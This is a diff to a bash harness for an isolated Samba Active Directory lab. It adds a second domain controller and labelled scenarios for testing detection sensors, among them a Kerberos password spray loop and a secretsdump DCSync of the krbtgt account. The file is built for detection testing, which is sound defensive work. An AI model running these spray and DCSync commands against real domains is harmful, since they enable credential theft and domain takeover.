@@ -456,6 +456,63 @@ sc_fast() {
        bash -c "KRB5_CONFIG_OVERRIDE=$tcp KRB5CCNAME=$CLDIR/ccache.fsvc client kvno -U alice -P cifs/$DC_FQDN"
 }
 
+# ---- two DCs, one sensor each (after the promotion: dc2 joined and running) ------------
+# krb5.conf files that send every Kerberos request to one DC (no KDC lookup in DNS).
+kdc_conf() {  # kdc_conf <dc address> -> path of its krb5.conf
+  local f=$CLDIR/krb5-kdc-$1.conf
+  cat > "$f" <<EOC
+[libdefaults]
+  default_realm = $REALM
+  dns_lookup_realm = false
+  dns_lookup_kdc = false
+  rdns = false
+  dns_canonicalize_hostname = false
+[realms]
+  $REALM = {
+    kdc = $1
+  }
+[domain_realm]
+  .$DNSDOMAIN = $REALM
+  $DNSDOMAIN = $REALM
+EOC
+  echo "$f"
+}
+
+# A TGT issued by DC1 used at DC2 (each seen by its own sensor): nothing to raise.
+sc_tgt_two_dcs() {
+  local dc1 dc2; dc1=$(kdc_conf $DC_IP); dc2=$(kdc_conf $DC2_IP)
+  step tgt_at_dc1 alice "kinit alice at DC1 (its sensor sees the AS exchange)" - - "benign" -- \
+       bash -c "printf '%s\n' '$(pw alice)' | KRB5_CONFIG_OVERRIDE=$dc1 KRB5CCNAME=$CLDIR/ccache.twodc client kinit alice@$REALM >/dev/null"
+  step tgs_at_dc2 alice "kvno cifs/ and ldap/ of dc2 at DC2 with DC1's TGT (DC2's sensor sees the TGS exchanges)" - \
+       "cifs/$DC2_FQDN@$REALM: kvno" "benign: the TGT was issued by a watched DC" -- \
+       bash -c "for s in cifs ldap; do KRB5_CONFIG_OVERRIDE=$dc2 KRB5CCNAME=$CLDIR/ccache.twodc client kvno \$s/$DC2_FQDN; done"
+  step smb_at_dc2 alice "smbclient -k to dc2 with the service ticket" - - "benign" -- \
+       bash -c "KRB5_CONFIG_OVERRIDE=$dc2 KRB5CCNAME=$CLDIR/ccache.twodc smbc smbclient -k //$DC2_FQDN/netlogon -c ls 2>&1 | tail -2"
+}
+
+# A Kerberos spray sent alternately to both DCs: one spray, whose alert names both DCs.
+sc_spray_two_dcs() {
+  local dc1 dc2 spray='Autumn2024!'; dc1=$(kdc_conf $DC_IP); dc2=$(kdc_conf $DC2_IP)
+  step krb_spray_two_dcs "alice,bob,carol,frank,svc_sql" "Kerberos spray (1 password x 5 users), alternately at DC1 and DC2" T1110.003 \
+       "Password incorrect" "5 x KDC_ERR_PREAUTH_FAILED, at DC1 and DC2 in turn" -- \
+       bash -c "i=0; for u in alice bob carol frank svc_sql; do c=$dc1; [ \$((i % 2)) = 1 ] && c=$dc2; i=\$((i+1)); printf '%s\n' '$spray' | KRB5_CONFIG_OVERRIDE=\$c KRB5CCNAME=$CLDIR/ccache.spray client kinit \$u@$REALM 2>&1 | tail -1; done"
+}
+
+# DCSync against the second DC from a workstation.
+sc_dcsync_dc2() {
+  step secretsdump_dc2 eve.admin "DCSync against DC2: secretsdump -just-dc-user DOMAIN/krbtgt (Samba shim)" T1003.006 \
+       "krbtgt:aes256" "DRSGetNCChanges at DC2, seen by DC2's sensor (hashes kept in the lab's state folder)" -- \
+       bash -c "impfix secretsdump.py -just-dc-user '$DOMAIN/krbtgt' -outputfile $CLDIR/loot/dcsync-dc2 '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC2_IP' | sed -E 's/[0-9a-f]{32,}/<hash>/g'"
+}
+
+# Ordinary replication between the two DCs, both ways: nothing to raise.
+sc_replication() {
+  SRC=$DC2_IP step drs_replicate_to_dc2 "DC2\$" "samba-tool drs replicate dc2 dc1 (DC2 pulls from DC1)" - "[Rr]eplicate from" "benign" -- \
+       in_dc2 samba-tool drs replicate $DC2_NAME $DC_NAME $BASEDN -s "$DC2CONF" -U "$DOMAIN\\Administrator" --password="$ADMINPASS"
+  SRC=$DC_IP step drs_replicate_to_dc1 "DC1\$" "samba-tool drs replicate dc1 dc2 (DC1 pulls from DC2)" - "[Rr]eplicate from" "benign" -- \
+       in_dc samba-tool drs replicate $DC_NAME $DC2_NAME $BASEDN -s "$SMBCONF" -U "$DOMAIN\\Administrator" --password="$ADMINPASS"
+}
+
 SCENARIOS=(
   "01_normal_logons|normal logons, service tickets, SMB, LDAP, DNS from two workstations (benign)|sc_normal"
   "02_password_spray|password spraying and brute force (Kerberos + NTLM)|sc_spray"
@@ -482,6 +539,10 @@ SCENARIOS=(
   "23_nopac_s4u|noPac (a TGT for the DC's name without its \$) and S4U from an added computer account|sc_nopac_s4u"
   "24_silver_ticket|silver ticket (a service ticket forged with the DC's machine key)|sc_silver|dcsync_dc_quiet"
   "25_kerberos_fast|Kerberos FAST from MIT clients: armored logons, split TGS-REQs, a refused S4U2proxy|sc_fast|kdc_fast_on|kdc_fast_off"
+  "26_tgt_two_dcs|a TGT issued by DC1 used at DC2, each DC with its own sensor (benign)|sc_tgt_two_dcs"
+  "27_spray_two_dcs|a Kerberos spray sent alternately to both DCs|sc_spray_two_dcs"
+  "28_dcsync_dc2|DCSync against the second DC from a workstation|sc_dcsync_dc2"
+  "29_replication|replication between the two DCs, both ways (legitimate)|sc_replication"
 )
 
 scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key title _ <<<"$s"; printf '%-28s %s\n' "$key" "$title"; done; }
@@ -489,8 +550,8 @@ scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key t
 scenarios_run() {  # scenarios_run [key-substring...]
   mkdir -p "$OUT"
   export LAB STATE OUT RUN LOGS CLDIR VENV NS_CL NS_CL2 DC_IP CL_IP CL2_IP DC_FQDN DNSDOMAIN DOMAIN REALM BASEDN SPN_SVC
-  export DC_NAME NS_DC DC_IF NS_DC2 DC2_IP DC2_NAME DC2_FQDN DC2DIR DC2CONF SMBCONF SAMLDB ADMINPASS RUN LOGS
-  export -f client client2 imp imp2 impfix impfix2 imptool smbc smbc2 kinit_wrong smb_wrong imp_wrong imp_smb_wrong
+  export DC_NAME NS_DC DC_IF NS_DC2 DC2_IP DC2_NAME DC2_FQDN DC2DIR DC2CONF SMBCONF SAMLDB ADMINPASS RUN LOGS CL_IF
+  export -f client client2 imp imp2 impfix impfix2 imptool smbc smbc2 kinit_wrong smb_wrong imp_wrong imp_smb_wrong kdc_conf
   export -f dc2_join dc2_start dc2_stop dc2_forget dc2_running in_dc in_dc2 kill_pidfile descendants ns_kill_all ns_exists log
   [ $# -eq 0 ] && rm -rf "$PCAPS" "$OUT/scenarios.jsonl" "$OUT/steps.jsonl"
   local s key title fn prep post
